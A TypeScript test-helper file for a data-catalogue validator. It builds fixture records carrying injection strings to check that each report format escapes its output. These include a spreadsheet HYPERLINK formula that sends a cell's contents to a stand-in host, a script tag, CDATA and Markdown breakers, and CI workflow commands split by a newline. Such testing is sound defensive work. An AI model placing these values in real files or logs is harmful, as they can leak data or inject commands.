/** Shared by the report tests: hostile records, and the tools that check outputs from outside. */
import { spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { ROOT } from './helpers.js';
import { loadBaseline } from '../src/baseline/baseline.js';
import { resolveConfig } from '../src/config/load.js';
import type { Lang } from '../src/core/lang.js';
import { validate } from '../src/engine/run.js';
import { FORMATTERS, pieces, type FormatterOptions } from '../src/report/formatters/index.js';
import type { Report } from '../src/report/model.js';
import { ruleBook } from '../src/rules/book.js';
import { tool } from '../src/tool.js';
import { have } from './support/optional.mjs';

/**
 * A title made to break every format: a spreadsheet formula, a script, a Markdown link and table
 * cell, the end of an XML CDATA section, workflow commands, and a line break starting a new command.
 */
export const HOSTILE_TITLE =
  '=HYPERLINK("http://evil.example/?"&A1,"click") <script>alert("pwned")</script> [click](http://evil.example) | cell ]]> ::error::injected\n::warning file=x::second line';
/** An identifier with markup and command separators of its own. */
export const HOSTILE_ID = 'x]]><b>id</b>::notice::id,a:b';
/** A frequency code that is a formula: quoted back in a finding's message and value. */
export const HOSTILE_CODE = '=HYPERLINK("http://evil.example","x")';

/** A clean federal package with hostile text in its id, title and frequency. */
export function hostilePackage(): Record<string, unknown> {
  const p = JSON.parse(readFileSync(join(ROOT, 'fixtures/ca-gc/dataset.json'), 'utf8'));
  p.id = HOSTILE_ID;
  p.name = HOSTILE_ID;
  p.title_translated = { en: HOSTILE_TITLE, fr: HOSTILE_TITLE };
  p.title = HOSTILE_TITLE;
  p.frequency = HOSTILE_CODE;
  return p;
}

/** Writes the hostile package as a JSON Lines file whose name has a comma and a colon too. */
export function writeHostile(dir: string): string {
  const f = join(dir, 'odd,name:1.jsonl');
  writeFileSync(f, `${JSON.stringify(hostilePackage())}\n`);
  return f;
}

/**
 * A catalogue longer than the HTML report's first page: `n` federal records (the readable ones of
 * fixtures/ca-gc/catalogue.jsonl, in turn, each under an id of its own) and, last, the hostile one.
 * Returns the JSON Lines file written in `dir`.
 */
export function writeLongCatalogue(dir: string, n: number): string {
  const packages = readFileSync(join(ROOT, 'fixtures/ca-gc/catalogue.jsonl'), 'utf8')
    .split('\n')
    .flatMap((l) => {
      try {
        return [JSON.parse(l) as Record<string, unknown>];
      } catch {
        return []; // the fixture's unreadable lines
      }
    });
  const lines: string[] = [];
  for (let i = 0; i < n; i++) {
    const p = { ...packages[i % packages.length] };
    p.id = p.name = `${String(p.id).slice(0, 30)}-${i}`;
    lines.push(JSON.stringify(p));
  }
  lines.push(JSON.stringify(hostilePackage()));
  const file = join(dir, 'long.jsonl');
  writeFileSync(file, `${lines.join('\n')}\n`);
  return file;
}

/** xmllint, when installed (.ci/run installs libxml2-utils); always under CI. */
export const XMLLINT = have('xmllint');

/** Validates an XML file against an XSD with xmllint; returns xmllint's complaints, '' when valid. */
export function xmlSchemaErrors(file: string, xsd: string): string {
  const r = spawnSync('xmllint', ['--noout', '--schema', xsd, file], { encoding: 'utf8' });
  return r.status === 0 ? '' : r.stderr;
}

/** An XPath string value, as xmllint decodes it (entities resolved). */
export function xpath(file: string, expr: string): string {
  const r = spawnSync('xmllint', ['--xpath', expr, file], { encoding: 'utf8' });
  if (r.status !== 0) throw new Error(`xmllint --xpath ${expr}: ${r.stderr}`);
  return r.stdout.replace(/\n$/, '');
}

/**
 * A whole report as `passerelle validate -f <format>` writes it, made in the test's process: for
 * tests of a report's content, which need no process of their own (each CLI start costs 0.3 s or
 * more of CPU; test/cli.test.ts and the others run the command itself).
 */
export function formatted(
  format: string,
  report: Report,
  options: Omit<FormatterOptions, 'color' | 'tool'>,
): string {
  const f = FORMATTERS[format]({ color: false, tool: tool(), ...options });
  const parts = [f.start(), ...report.records.map((r) => f.record(r)), f.end(report.summary)];
  return parts.flatMap((c) => [...pieces(c)]).join('');
}

/**
 * `passerelle validate <paths> --profile <profile> --now <now> -f <format> --fail-on never` run
 * from `cwd` (its passerelle.config.yaml, or none for `config: false`), made in the test's process:
 * the report's text, for tests of its content only.
 */
export async function validatedText(
  paths: string[],
  format: string,
  o: {
    profile: string;
    now?: string;
    lang?: Lang;
    cwd?: string;
    config?: false;
    baseline?: string;
  },
): Promise<string> {
  const config = resolveConfig(o.config, o.cwd ?? ROOT);
  const rules = ruleBook(config?.rules);
  const lang = o.lang ?? 'en';
  const report = await validate(paths, {
    profile: o.profile,
    now: new Date(`${o.now ?? '2026-11-01'}T00:00:00Z`),
    lang,
    settings: config?.settings,
    rules,
    baseline: o.baseline === undefined ? undefined : loadBaseline(o.baseline),
  });
  return formatted(format, report, { lang, rules, failOn: 'never' });
}
